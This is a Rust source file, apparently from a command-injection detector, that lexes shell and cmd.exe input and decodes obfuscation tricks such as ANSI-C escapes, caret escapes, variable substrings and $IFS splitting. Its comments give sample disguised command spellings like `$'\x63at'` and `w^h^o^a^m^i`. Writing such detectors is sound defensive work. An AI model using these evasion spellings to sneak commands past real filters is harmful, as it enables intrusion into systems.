//! The shell lexer behind [`super::cmdi`]: bytes → words, separators,
//! substitutions and redirections, read the way POSIX `sh`/bash would, with
//! the `cmd.exe` spellings that hide a command (`^` escapes, `%VAR:~x,y%`)
//! undone as well, optionally starting *inside* `'…'` or `"…"`, as a value
//! spliced into a quoted argument does.
//!
//! Every word is *cooked* as it is lexed: quotes and escapes removed, the
//! expansions an injected command line can count on replaced by what they
//! expand to (`$'\x63at'` → `cat`, `${PATH:0:1}` → `/`, `ca$@t` → `cat`,
//! `%COMSPEC:~-7,3%` → `cmd`, `$X` after `X=…` → its value), a `{a,b}`
//! brace list split into its words and `$IFS` read as the space it is. The
//! first [`WORD_CAP`] bytes of the result are kept in the token with
//! [`flags`] that say which of those tricks the word used: an ordinary
//! value never needs them, so they are evidence of their own.
//!
//! What the lexer does not do: arithmetic, here-document bodies, aliases,
//! functions, `{a..z}` sequences and globbing against a real file system
//! (the detector matches globs against a list of binaries). Unknown
//! variables are empty, as they are in an attacker's command line (`c${u}at`
//! runs `cat`); the ones every shell sets are *dynamic* (a byte no command
//! name holds stands for them).
//!
//! Reference: <https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html>,
//! <https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions>,
//! <https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cmd>.

/// Tokens read from one reading at most; what follows is not looked at.
pub const MAX_TOKENS: usize = 256;

/// Deepest `$(…)`/`` `…` ``/`<(…)` nesting followed; deeper openers are read
/// as word bytes.
pub const MAX_DEPTH: usize = 8;

/// Cooked bytes kept per word: enough for any command name and for telling
/// a path, URL, address or option apart.
pub const WORD_CAP: usize = 48;

/// Stands for an expansion whose value is not known (`$HOME`, `%USERNAME%`,
/// a glued substitution): no command name holds it.
pub const DYNAMIC: u8 = 0x01;

/// Where the value sits in the command line it is spliced into.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Quote {
    /// As-is: `ping <value>`.
    None,
    /// Inside `'…'`: `grep '<value>' file`.
    Single,
    /// Inside `"…"`: `echo "<value>"`.
    Double,
}

/// Command separators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sep {
    /// `;` (not a separator to `cmd.exe`).
    Semi,
    /// `|`, `|&`.
    Pipe,
    /// `||`.
    OrIf,
    /// `&`.
    Amp,
    /// `&&`.
    AndIf,
    /// A line feed.
    Newline,
}

/// Substitutions: a command whose output becomes part of a word.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sub {
    /// `$(…)`.
    Dollar,
    /// `` `…` ``.
    Backtick,
    /// `<(…)`, `>(…)`.
    Process,
}

/// Redirections; the word after all but `Dup` is their target.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Redir {
    /// `>`, `>>`, `>|`, `&>`, `>&` + file, `<>`.
    Out,
    /// `<`, `<&` + file.
    In,
    /// `<<<`: the target word is the command's input.
    HereString,
    /// `<<` and `<<-`: the target word is the delimiter.
    HereDoc,
    /// `2>&1`, `0<&-`: no target word.
    Dup,
}

/// What a token is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Word,
    Sep(Sep),
    SubOpen(Sub),
    /// The `)` or `` ` `` that closes the innermost substitution.
    SubClose,
    Redir(Redir),
    /// `(` or `{` followed by a blank.
    GroupOpen,
    /// `)` closing a `(`, or `}` on its own.
    GroupClose,
    End,
    /// [`MAX_TOKENS`] were read: nothing further is looked at.
    Cap,
}

/// What a word's spelling did, as bits of [`Token::flags`].
pub mod flags {
    /// Some of it was quoted.
    pub const QUOTED: u16 = 1;
    /// Quotes inside it, not around it: `c'a't`, `c''at`, `"/bin/"sh`.
    pub const SPLIT_QUOTES: u16 = 1 << 1;
    /// A backslash before a letter or digit: `c\at`.
    pub const ESCAPE: u16 = 1 << 2;
    /// A `cmd.exe` caret: `w^h^o^a^m^i`.
    pub const CARET: u16 = 1 << 3;
    /// An expansion to nothing: `$@`, `$1`, `${u}`, `$()`, ``` `` ```.
    pub const EMPTY: u16 = 1 << 4;
    /// A substring of a variable: `${PATH:0:1}`, `%COMSPEC:~-7,3%`.
    pub const SUBSTRING: u16 = 1 << 5;
    /// ANSI-C quoting: `$'\x63at'`.
    pub const ANSI_C: u16 = 1 << 6;
    /// `$IFS` split it from the word before or after.
    pub const IFS: u16 = 1 << 7;
    /// One word of a `{a,b}` brace list.
    pub const BRACE: u16 = 1 << 8;
    /// Unquoted `?`, `*` or `[`.
    pub const GLOB: u16 = 1 << 9;
    /// An expansion of unknown value, or a substitution glued to it.
    pub const DYNAMIC: u16 = 1 << 10;
    /// A variable assigned earlier in the value: `X=…;$X`.
    pub const INDIRECT: u16 = 1 << 11;
    /// It holds the quote that closes the reading's opening quote.
    pub const CLOSES: u16 = 1 << 12;
    /// A quote was still open at the end of the input.
    pub const UNTERMINATED: u16 = 1 << 13;
    /// Read as a Windows path (`C:\…`, `%WINDIR%\…`): `\` is a separator.
    pub const WINDOWS_PATH: u16 = 1 << 14;

    /// The spellings an ordinary value has no use for in a command name.
    pub const EVASION: u16 =
        SPLIT_QUOTES | ESCAPE | CARET | EMPTY | SUBSTRING | ANSI_C | IFS | BRACE | INDIRECT;
}

/// The first [`WORD_CAP`] cooked bytes of a word.
#[derive(Clone, Copy, PartialEq, Eq)]
pub struct Word {
    buf: [u8; WORD_CAP],
    len: u8,
    truncated: bool,
}

impl Word {
    const EMPTY: Word = Word {
        buf: [0; WORD_CAP],
        len: 0,
        truncated: false,
    };

    pub fn bytes(&self) -> &[u8] {
        self.buf.get(..usize::from(self.len)).unwrap_or_default()
    }

    /// The word was longer than [`WORD_CAP`] bytes.
    pub fn truncated(&self) -> bool {
        self.truncated
    }

    fn push(&mut self, b: u8) {
        match self.buf.get_mut(usize::from(self.len)) {
            Some(slot) => {
                *slot = b;
                self.len += 1;
            }
            None => self.truncated = true,
        }
    }

    fn extend(&mut self, bytes: &[u8]) {
        let len = usize::from(self.len);
        let room = WORD_CAP - len;
        let n = bytes.len().min(room);
        if let (Some(dst), Some(src)) = (self.buf.get_mut(len..len + n), bytes.get(..n)) {
            dst.copy_from_slice(src);
            // n <= WORD_CAP, which fits in a u8.
            self.len += n as u8;
        }
        self.truncated |= n < bytes.len();
    }

    fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// `NAME` and the value of a `NAME=value` word.
    pub fn assignment(&self) -> Option<(&[u8], &[u8])> {
        let bytes = self.bytes();
        let eq = bytes.iter().position(|&b| b == b'=')?;
        let (name, value) = bytes.split_at(eq);
        let ok = matches!(name.first(), Some(b) if b.is_ascii_alphabetic() || *b == b'_')
            && name.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_');
        ok.then(|| (name, value.get(1..).unwrap_or_default()))
    }
}

impl std::fmt::Debug for Word {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{:?}", String::from_utf8_lossy(self.bytes()))
    }
}

/// One token: its kind, its raw bytes (`start..end` of the input), whether
/// a blank came before it, and for a word, its cooked bytes and flags.
#[derive(Debug, Clone, Copy)]
pub struct Token {
    pub kind: Kind,
    pub start: u32,
    pub end: u32,
    pub space_before: bool,
    pub flags: u16,
    pub word: Word,
}

impl Token {
    fn new(kind: Kind, start: usize, end: usize) -> Token {
        Token {
            kind,
            start: to_u32(start),
            end: to_u32(end),
            space_before: false,
            flags: 0,
            word: Word::EMPTY,
        }
    }
}

fn to_u32(n: usize) -> u32 {
    u32::try_from(n).unwrap_or(u32::MAX)
}

#[derive(Debug, Clone, Copy)]
struct Frame {
    sub: Option<Sub>,
    /// Inside `"…"` (substitutions nest inside double quotes).
    dq: bool,
    /// `(` opened in this frame and not closed.
    groups: u8,
}

const TOP: Frame = Frame {
    sub: None,
    dq: false,
    groups: 0,
};

/// Assignments remembered for `$NAME` (the latest few).
const VARS: usize = 4;

/// The tokens of one reading of the input, on demand.
pub struct Lexer<'a> {
    input: &'a [u8],
    pos: usize,
    frames: [Frame; MAX_DEPTH + 1],
    depth: usize,
    /// Still inside the `'…'` the reading starts in.
    in_single: bool,
    /// Still inside the `"…"` the reading starts in.
    in_double: bool,
    /// Just past the quote that closed the reading's opening quote.
    closed_at: Option<u32>,
    /// The `}` of the brace list being split, if any.
    brace_end: Option<usize>,
    /// Flags for the next word (`$IFS` splits it from the one before).
    carry: u16,
    vars: [Word; VARS],
    n_vars: usize,
    count: usize,
}

/// The step a word's loop takes after an expansion.
enum Step {
    Go,
    /// `$IFS` unquoted after some bytes: the word ends here.
    Split,
}

impl<'a> Lexer<'a> {
    pub fn new(input: &'a [u8], quote: Quote) -> Lexer<'a> {
        let mut frames = [TOP; MAX_DEPTH + 1];
        if quote == Quote::Double {
            frames[0].dq = true;
        }
        Lexer {
            input,
            pos: 0,
            frames,
            depth: 0,
            in_single: quote == Quote::Single,
            in_double: quote == Quote::Double,
            closed_at: None,
            brace_end: None,
            carry: 0,
            vars: [Word::EMPTY; VARS],
            n_vars: 0,
            count: 0,
        }
    }

    /// Just past the quote that closed the reading's opening quote, once
    /// it has been read.
    pub fn closed_at(&self) -> Option<u32> {
        self.closed_at
    }

    /// How many tokens were read.
    pub fn count(&self) -> usize {
        self.count
    }

    fn at(&self, i: usize) -> Option<u8> {
        self.input.get(i).copied()
    }

    fn top(&self) -> Frame {
        self.frames.get(self.depth).copied().unwrap_or(TOP)
    }

    fn top_mut(&mut self) -> Option<&mut Frame> {
        self.frames.get_mut(self.depth)
    }

    fn push_frame(&mut self, sub: Sub) -> bool {
        if self.depth >= MAX_DEPTH {
            return false;
        }
        self.depth += 1;
        if let Some(f) = self.frames.get_mut(self.depth) {
            *f = Frame {
                sub: Some(sub),
                dq: false,
                groups: 0,
            };
        }
        true
    }

    pub fn next_token(&mut self) -> Token {
        let len = self.input.len();
        if self.count >= MAX_TOKENS {
            return Token::new(Kind::Cap, len, len);
        }
        let before = self.pos;
        let t = self.lex();
        if !matches!(t.kind, Kind::End) {
            self.count += 1;
            if self.pos == before {
                // Every token reads a byte; a word that could not (a
                // substitution opener past MAX_DEPTH) reads it as itself.
                self.pos += 1;
            }
        }
        t
    }

    fn lex(&mut self) -> Token {
        let mut space = false;
        loop {
            let start = self.pos;
            let Some(c) = self.at(start) else {
                return Token::new(Kind::End, start, start);
            };
            let next = self.at(start + 1);
            let tok = move |kind, n: usize| {
                let mut t = Token::new(kind, start, start + n);
                t.space_before = space;
                t
            };
            if self.in_single {
                return self.word(start, space);
            }
            if self.top().dq {
                // Inside `"…"` only substitutions are not word bytes.
                let dollar = c == b'$' && next == Some(b'(') && self.at(start + 2) != Some(b')');
                if dollar && self.push_frame(Sub::Dollar) {
                    self.pos += 2;
                    return tok(Kind::SubOpen(Sub::Dollar), 2);
                }
                if c == b'`' && next != Some(b'`') && self.push_frame(Sub::Backtick) {
                    self.pos += 1;
                    return tok(Kind::SubOpen(Sub::Backtick), 1);
                }
                return self.word(start, space);
            }
            if let Some(end) = self.brace_end {
                if c == b',' || start == end {
                    if start == end {
                        self.brace_end = None;
                    }
                    self.pos += 1;
                    continue;
                }
            }
            match c {
                b' ' | b'\t' | b'\r' | 0x0B | 0x0C => {
                    self.pos += 1;
                    space = true;
                }
                b'\\' if next == Some(b'\n') => self.pos += 2,
                b'#' => {
                    // A comment, to the end of the line.
                    let rest = self.input.get(start..).unwrap_or_default();
                    let n = rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len());
                    self.pos += n;
                    space = true;
                }
                b'\n' => {
                    self.pos += 1;
                    return tok(Kind::Sep(Sep::Newline), 1);
                }
                b';' => {
                    self.pos += 1;
                    return tok(Kind::Sep(Sep::Semi), 1);
                }
                b'|' => {
                    let (sep, n) = match next {
                        Some(b'|') => (Sep::OrIf, 2),
                        Some(b'&') => (Sep::Pipe, 2),
                        _ => (Sep::Pipe, 1),
                    };
                    self.pos += n;
                    return tok(Kind::Sep(sep), n);
                }
                b'&' if next == Some(b'&') => {
                    self.pos += 2;
                    return tok(Kind::Sep(Sep::AndIf), 2);
                }
                b'&' if next == Some(b'>') => {
                    let n = if self.at(start + 2) == Some(b'>') {
                        3
                    } else {
                        2
                    };
                    self.pos += n;
                    return tok(Kind::Redir(Redir::Out), n);
                }
                b'&' => {
                    self.pos += 1;
                    return tok(Kind::Sep(Sep::Amp), 1);
                }
                b'<' | b'>' if next == Some(b'(') => {
                    self.pos += 2;
                    if self.push_frame(Sub::Process) {
                        return tok(Kind::SubOpen(Sub::Process), 2);
                    }
                    return tok(Kind::Redir(Redir::Out), 1);
                }
                b'<' | b'>' => return self.redirect(start, space),
                b'0'..=b'9' if self.fd_redirect(start) => return self.redirect(start, space),
                b'(' => {
                    self.pos += 1;
                    if let Some(f) = self.top_mut() {
                        f.groups = f.groups.saturating_add(1);
                    }
                    return tok(Kind::GroupOpen, 1);
                }
                b')' => {
                    self.pos += 1;
                    let f = self.top();
                    if f.groups > 0 {
                        if let Some(f) = self.top_mut() {
                            f.groups -= 1;
                        }
                        return tok(Kind::GroupClose, 1);
                    }
                    if matches!(f.sub, Some(Sub::Dollar | Sub::Process)) {
                        self.depth -= 1;
                        return tok(Kind::SubClose, 1);
                    }
                    return tok(Kind::GroupClose, 1);
                }
                b'`' if next == Some(b'`') && self.at(start + 2) == Some(b'`') => {
                    // A markdown code fence: no shell writes three in a row.
                    let rest = self.input.get(start..).unwrap_or_default();
                    self.pos += rest.iter().take_while(|&&b| b == b'`').count();
                    space = true;
                }
                b'`' if next == Some(b'`') && self.top().sub != Some(Sub::Backtick) => {
                    return self.word(start, space);
                }
                b'`' => {
                    self.pos += 1;
                    if self.top().sub == Some(Sub::Backtick) {
                        self.depth -= 1;
                        return tok(Kind::SubClose, 1);
                    }
                    if self.push_frame(Sub::Backtick) {
                        return tok(Kind::SubOpen(Sub::Backtick), 1);
                    }
                    return tok(Kind::Word, 1);
                }
                b'$' if next == Some(b'(') && self.at(start + 2) != Some(b')') => {
                    self.pos += 2;
                    if self.push_frame(Sub::Dollar) {
                        return tok(Kind::SubOpen(Sub::Dollar), 2);
                    }
                    return tok(Kind::Word, 2);
                }
                b'{' if next.is_none_or(is_blank_or_newline) => {
                    self.pos += 1;
                    return tok(Kind::GroupOpen, 1);
                }
                b'}' if next.is_none_or(is_delimiter) => {
                    self.pos += 1;
                    return tok(Kind::GroupClose, 1);
                }
                _ => return self.word(start, space),
            }
        }
    }

    /// Digits followed by `<` or `>`: a redirection of that descriptor.
    fn fd_redirect(&self, start: usize) -> bool {
        let rest = self.input.get(start..).unwrap_or_default();
        let digits = rest.iter().take_while(|b| b.is_ascii_digit()).count();
        digits <= 2 && matches!(rest.get(digits), Some(b'<' | b'>'))
    }

    fn redirect(&mut self, start: usize, space: bool) -> Token {
        let mut p = start;
        while self.at(p).is_some_and(|b| b.is_ascii_digit()) {
            p += 1;
        }
        let op = [self.at(p), self.at(p + 1), self.at(p + 2)];
        let (mut kind, n) = match op {
            [Some(b'<'), Some(b'<'), Some(b'<')] => (Redir::HereString, 3),
            [Some(b'<'), Some(b'<'), Some(b'-')] => (Redir::HereDoc, 3),
            [Some(b'<'), Some(b'<'), _] => (Redir::HereDoc, 2),
            [Some(b'<'), Some(b'>'), _] => (Redir::Out, 2),
            [Some(b'<'), Some(b'&'), _] => (Redir::In, 2),
            [Some(b'<'), _, _] => (Redir::In, 1),
            [Some(b'>'), Some(b'>' | b'|' | b'&'), _] => (Redir::Out, 2),
            _ => (Redir::Out, 1),
        };
        p += n;
        if matches!(op[1], Some(b'&')) && n == 2 {
            // `>&1`, `<&0`, `>&-`: a descriptor, not a file.
            let digits = self
                .input
                .get(p..)
                .unwrap_or_default()
                .iter()
                .take_while(|b| b.is_ascii_digit())
                .count();
            if digits > 0 || self.at(p) == Some(b'-') {
                p += digits.max(1);
                kind = Redir::Dup;
            }
        }
        self.pos = p;
        let mut t = Token::new(Kind::Redir(kind), start, p);
        t.space_before = space;
        t
    }

    /// A word from `start`, which may begin inside a quote.
    fn word(&mut self, start: usize, space: bool) -> Token {
        let mut w = Word::EMPTY;
        let mut fl = std::mem::take(&mut self.carry);
        if self.brace_end.is_some() {
            fl |= flags::BRACE;
        }
        // A quote closed and the word went on, or a quote opened after
        // some bytes: the quotes are inside the word.
        let mut after_quote = false;
        let rest = self.input.get(start..).unwrap_or_default();
        let windows = !self.in_single && !self.top().dq && is_windows_path(rest);
        if windows {
            fl |= flags::WINDOWS_PATH;
        }
        // A bound on the loop: every pass reads at least one byte.
        let limit = self.input.len() + 2;
        for _ in 0..limit {
            if self.in_single {
                let rest = self.input.get(self.pos..).unwrap_or_default();
                fl |= flags::QUOTED;
                match rest.iter().position(|&b| b == b'\'') {
                    Some(n) => {
                        w.extend(rest.get(..n).unwrap_or_default());
                        self.pos += n + 1;
                        self.in_single = false;
                        self.closed_at = Some(to_u32(self.pos));
                        fl |= flags::CLOSES;
                        after_quote = true;
                    }
                    None => {
                        w.extend(rest);
                        self.pos = self.input.len();
                        fl |= flags::UNTERMINATED;
                        break;
                    }
                }
                continue;
            }
            let Some(c) = self.at(self.pos) else {
                if self.top().dq {
                    fl |= flags::UNTERMINATED;
                }
                break;
            };
            let next = self.at(self.pos + 1);
            if self.top().dq {
                match c {
                    b'"' => {
                        self.pos += 1;
                        if let Some(f) = self.top_mut() {
                            f.dq = false;
                        }
                        fl |= flags::QUOTED;
                        after_quote = true;
                        if self.in_double && self.depth == 0 {
                            self.in_double = false;
                            self.closed_at = Some(to_u32(self.pos));
                            fl |= flags::CLOSES;
                        }
                    }
                    b'\\' => match next {
                        Some(b'\n') => self.pos += 2,
                        Some(n @ (b'$' | b'`' | b'"' | b'\\')) => {
                            w.push(n);
                            self.pos += 2;
                        }
                        _ => {
                            w.push(b'\\');
                            self.pos += 1;
                        }
                    },
                    b'`' if next == Some(b'`') => {
                        self.pos += 2;
                        fl |= flags::EMPTY;
                    }
                    b'`' => break,
                    b'$' if next == Some(b'(') && self.at(self.pos + 2) != Some(b')') => break,
                    b'$' => {
                        self.dollar(&mut w, &mut fl, true);
                    }
                    _ => {
                        w.push(c);
                        self.pos += 1;
                    }
                }
                continue;
            }
            if PLAIN[usize::from(c)] {
                // The common case: a run of bytes that are themselves.
                let rest = self.input.get(self.pos..).unwrap_or_default();
                let n = rest.iter().take_while(|&&b| PLAIN[usize::from(b)]).count();
                w.extend(rest.get(..n).unwrap_or_default());
                self.pos += n;
                if after_quote {
                    fl |= flags::SPLIT_QUOTES;
                }
                continue;
            }
            if is_delimiter(c) {
                break;
            }
            if let Some(end) = self.brace_end {
                if c == b',' || self.pos == end {
                    break;
                }
            }
            let before = w.len;
            match c {
                b'`' if next == Some(b'`') => {
                    self.pos += 2;
                    fl |= flags::EMPTY;
                }
                b'`' => break,
                b'\'' => {
                    if !w.is_empty() {
                        fl |= flags::SPLIT_QUOTES;
                    }
                    fl |= flags::QUOTED;
                    let rest = self.input.get(self.pos + 1..).unwrap_or_default();
                    match rest.iter().position(|&b| b == b'\'') {
                        Some(n) => {
                            w.extend(rest.get(..n).unwrap_or_default());
                            self.pos += n + 2;
                        }
                        None => {
                            w.extend(rest);
                            self.pos = self.input.len();
                            fl |= flags::UNTERMINATED;
                        }
                    }
                    after_quote = true;
                    continue;
                }
                b'"' => {
                    if !w.is_empty() {
                        fl |= flags::SPLIT_QUOTES;
                    }
                    fl |= flags::QUOTED;
                    self.pos += 1;
                    if let Some(f) = self.top_mut() {
                        f.dq = true;
                    }
                    continue;
                }
                b'\\' if windows => {
                    w.push(b'\\');
                    self.pos += 1;
                }
                b'\\' => match next {
                    None => {
                        w.push(b'\\');
                        self.pos += 1;
                    }
                    Some(b'\n') => self.pos += 2,
                    Some(n) => {
                        if n.is_ascii_alphanumeric() {
                            fl |= flags::ESCAPE;
                        }
                        w.push(n);
                        self.pos += 2;
                    }
                },
                b'^' => match next {
                    Some(n) if !is_delimiter(n) => {
                        if n.is_ascii_alphanumeric() {
                            fl |= flags::CARET;
                        }
                        w.push(n);
                        self.pos += 2;
                    }
                    _ => {
                        w.push(b'^');
                        self.pos += 1;
                    }
                },
                b'$' if next == Some(b'(') && self.at(self.pos + 2) != Some(b')') => break,
                b'$' => {
                    let quoted_before = fl & flags::QUOTED;
                    let empty = w.is_empty();
                    if let Step::Split = self.dollar(&mut w, &mut fl, false) {
                        if empty {
                            continue;
                        }
                        self.carry |= flags::IFS;
                        break;
                    }
                    // `$'…'` opens a quote of its own.
                    if fl & flags::QUOTED != quoted_before && !empty {
                        fl |= flags::SPLIT_QUOTES;
                    }
                }
                b'%' => self.percent(&mut w, &mut fl),
                b'?' | b'*' | b'[' => {
                    fl |= flags::GLOB;
                    w.push(c);
                    self.pos += 1;
                }
                b'{' if w.is_empty() && self.brace_end.is_none() => {
                    match brace_list(self.input, self.pos) {
                        Some(end) => {
                            self.brace_end = Some(end);
                            fl |= flags::BRACE;
                        }
                        None => w.push(b'{'),
                    }
                    self.pos += 1;
                }
                _ => {
                    w.push(c);
                    self.pos += 1;
                }
            }
            if after_quote && w.len > before {
                fl |= flags::SPLIT_QUOTES;
            }
        }
        if w.truncated() {
            // Long words are data, not command names; keep what fits.
            fl &= !flags::SPLIT_QUOTES;
        }
        self.remember(&w);
        let mut t = Token::new(Kind::Word, start, self.pos);
        t.space_before = space;
        t.flags = fl;
        t.word = w;
        t
    }

    /// Remember `NAME=value` for a later `$NAME`.
    fn remember(&mut self, w: &Word) {
        if w.assignment().is_some() && !w.truncated() {
            if let Some(slot) = self.vars.get_mut(self.n_vars % VARS) {
                *slot = *w;
            }
            self.n_vars += 1;
        }
    }

    fn assigned(&self, name: &[u8]) -> Option<Word> {
        // The latest assignment wins.
        (0..self.n_vars.min(VARS)).rev().find_map(|k| {
            let i = (self.n_vars - 1 - k) % VARS;
            let w = self.vars.get(i)?;
            let (n, v) = w.assignment()?;
            (n == name).then(|| {
                let mut out = Word::EMPTY;
                out.extend(v);
                out
            })
        })
    }

    /// An expansion at `$`: push what it expands to.
    fn dollar(&mut self, w: &mut Word, fl: &mut u16, quoted: bool) -> Step {
        let p = self.pos;
        let next = self.at(p + 1);
        match next {
            Some(b'\'') if !quoted => {
                self.pos = p + 2;
                self.ansi_c(w);
                *fl |= flags::ANSI_C | flags::QUOTED;
            }
            Some(b'"') if !quoted => {
                // `$"…"`: a translated string, i.e. a quoted one.
                self.pos = p + 2;
                *fl |= flags::QUOTED;
                if let Some(f) = self.top_mut() {
                    f.dq = true;
                }
            }
            Some(b'(') => {
                // `$()`: the empty substitution (others end the word).
                self.pos = p + 3;
                *fl |= flags::EMPTY;
            }
            Some(b'{') => {
                let rest = self.input.get(p + 2..).unwrap_or_default();
                match rest.iter().take(64).position(|&b| b == b'}') {
                    Some(n) => {
                        self.pos = p + 3 + n;
                        let inner = rest.get(..n).unwrap_or_default();
                        return self.braced(inner, w, fl, quoted);
                    }
                    None => {
                        w.push(b'$');
                        self.pos = p + 1;
                    }
                }
            }
            Some(b'@' | b'*' | b'1'..=b'9') => {
                self.pos = p + 2;
                *fl |= flags::EMPTY;
            }
            Some(b'0' | b'#' | b'?' | b'$' | b'!' | b'-') => {
                self.pos = p + 2;
                w.push(DYNAMIC);
                *fl |= flags::DYNAMIC;
            }
            Some(b) if b.is_ascii_alphabetic() || b == b'_' => {
                let rest = self.input.get(p + 1..).unwrap_or_default();
                let n = rest
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                    .count();
                self.pos = p + 1 + n;
                let name = rest.get(..n).unwrap_or_default();
                return self.variable(name, None, w, fl, quoted);
            }
            _ => {
                w.push(b'$');
                self.pos = p + 1;
            }
        }
        Step::Go
    }

    /// `${inner}`.
    fn braced(&mut self, inner: &[u8], w: &mut Word, fl: &mut u16, quoted: bool) -> Step {
        let n = inner
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        let (name, op) = inner.split_at(n);
        match (name, op) {
            ([], [b'@' | b'*']) => *fl |= flags::EMPTY,
            (digits, []) if digits.iter().all(u8::is_ascii_digit) => {
                if digits == b"0" {
                    w.push(DYNAMIC);
                    *fl |= flags::DYNAMIC;
                } else {
                    *fl |= flags::EMPTY;
                }
            }
            (name, []) => return self.variable(name, None, w, fl, quoted),
            (name, [b':', range @ ..]) if !name.is_empty() && !range.starts_with(b"-") => {
                match parse_range(range) {
                    Some(r) => return self.variable(name, Some(Range::Bash(r)), w, fl, quoted),
                    None => {
                        w.push(DYNAMIC);
                        *fl |= flags::DYNAMIC;
                    }
                }
            }
            _ => {
                w.push(DYNAMIC);
                *fl |= flags::DYNAMIC;
            }
        }
        Step::Go
    }

    /// `$name` or `${name:off:len}`.
    fn variable(
        &mut self,
        name: &[u8],
        range: Option<Range>,
        w: &mut Word,
        fl: &mut u16,
        quoted: bool,
    ) -> Step {
        if name == b"IFS" && range.is_none() {
            if quoted {
                w.push(b' ');
                return Step::Go;
            }
            *fl |= flags::IFS;
            return Step::Split;
        }
        let value = match self.assigned(name) {
            Some(v) => {
                *fl |= flags::INDIRECT;
                Value::Exact(v)
            }
            None => posix_var(name),
        };
        expand(value, range, w, fl);
        Step::Go
    }

    /// `$'…'`, from just after the opening quote.
    fn ansi_c(&mut self, w: &mut Word) {
        let input = self.input;
        let mut p = self.pos;
        while let Some(&c) = input.get(p) {
            p += 1;
            match c {
                b'\'' => break,
                b'\\' => {
                    let Some(&e) = input.get(p) else { break };
                    p += 1;
                    match e {
                        b'a' => w.push(7),
                        b'b' => w.push(8),
                        b'e' | b'E' => w.push(27),
                        b'f' => w.push(12),
                        b'n' => w.push(b'\n'),
                        b'r' => w.push(b'\r'),
                        b't' => w.push(b'\t'),
                        b'v' => w.push(11),
                        b'\\' | b'\'' | b'"' | b'?' => w.push(e),
                        b'x' | b'u' | b'U' => {
                            let max = match e {
                                b'x' => 2,
                                b'u' => 4,
                                _ => 8,
                            };
                            let (v, n) = number(input.get(p..).unwrap_or_default(), 16, max);
                            p += n;
                            if n == 0 {
                                w.push(b'\\');
                                w.push(e);
                            } else {
                                push_char(w, v);
                            }
                        }
                        b'0'..=b'7' => {
                            let (v, n) = number(input.get(p - 1..).unwrap_or_default(), 8, 3);
                            p += n.saturating_sub(1);
                            w.push((v & 0xff) as u8);
                        }
                        b'c' => {
                            if let Some(&x) = input.get(p) {
                                p += 1;
                                w.push(x & 0x1f);
                            }
                        }
                        _ => {
                            w.push(b'\\');
                            w.push(e);
                        }
                    }
                }
                _ => w.push(c),
            }
        }
        self.pos = p;
    }

    /// `%NAME%` or `%NAME:~off,len%` (`cmd.exe`); anything else is a `%`.
    fn percent(&mut self, w: &mut Word, fl: &mut u16) {
        let p = self.pos;
        let rest = self.input.get(p + 1..).unwrap_or_default();
        let n = rest
            .iter()
            .take(32)
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'(' | b')'))
            .count();
        let name = rest.get(..n).unwrap_or_default();
        let after = rest.get(n..).unwrap_or_default();
        let starts_well = name
            .first()
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_');
        if starts_well {
            if let [b'%', ..] = after {
                self.pos = p + n + 2;
                expand(cmd_var(name), None, w, fl);
                return;
            }
            if let [b':', b'~', spec @ ..] = after {
                if let Some(end) = spec.iter().take(16).position(|&b| b == b'%') {
                    if let Some(r) = parse_cmd_range(spec.get(..end).unwrap_or_default()) {
                        self.pos = p + n + 4 + end;
                        expand(cmd_var(name), Some(Range::Cmd(r)), w, fl);
                        return;
                    }
                }
            }
        }
        w.push(b'%');
        self.pos = p + 1;
    }
}

/// Bytes that stand for themselves in an unquoted word, whatever is
/// around them.
static PLAIN: [bool; 256] = {
    let mut t = [false; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        t[i] = b.is_ascii_alphanumeric()
            || matches!(
                b,
                b'.' | b'/' | b'-' | b'_' | b':' | b'@' | b'+' | b'=' | b'!' | b'~'
            )
            || b >= 0x80;
        i += 1;
    }
    t
};

/// Ends an unquoted word.
fn is_delimiter(b: u8) -> bool {
    matches!(
        b,
        b' ' | b'\t' | b'\r' | 0x0B | 0x0C | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')'
    )
}

fn is_blank_or_newline(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\r' | b'\n' | 0x0B | 0x0C)
}

/// `C:\…`, `c:/…`, `\\host\…`, `.\…`, `%WINDIR%\…`: a path `cmd.exe` reads
/// with `\` as the separator.
fn is_windows_path(s: &[u8]) -> bool {
    match s {
        [d, b':', b'\\' | b'/', ..] => d.is_ascii_alphabetic(),
        [b'\\', b'\\', ..] | [b'.', b'\\', ..] | [b'.', b'.', b'\\', ..] => true,
        [b'%', rest @ ..] => rest
            .iter()
            .take(34)
            .position(|&b| b == b'%')
            .is_some_and(|i| rest.get(i + 1) == Some(&b'\\')),
        _ => false,
    }
}

/// The `}` closing the brace list `{a,b,…}` at `at`, if it is one: a
/// comma, no blank, quote or nested brace before the `}`.
fn brace_list(input: &[u8], at: usize) -> Option<usize> {
    let rest = input.get(at + 1..)?;
    let mut comma = false;
    for (i, &b) in rest.iter().enumerate().take(256) {
        match b {
            b',' => comma = true,
            b'}' => return comma.then_some(at + 1 + i),
            b'{' | b'\'' | b'"' | b'`' | b'$' => return None,
            b if is_delimiter(b) => return None,
            _ => {}
        }
    }
    None
}

/// Up to `max` digits of `radix` at the start of `s`: the value and how
/// many were read.
fn number(s: &[u8], radix: u32, max: usize) -> (u32, usize) {
    let mut v: u32 = 0;
    let mut n = 0;
    for &b in s.iter().take(max) {
        let Some(d) = char::from(b).to_digit(radix) else {
            break;
        };
        v = v.saturating_mul(radix).saturating_add(d);
        n += 1;
    }
    (v, n)
}

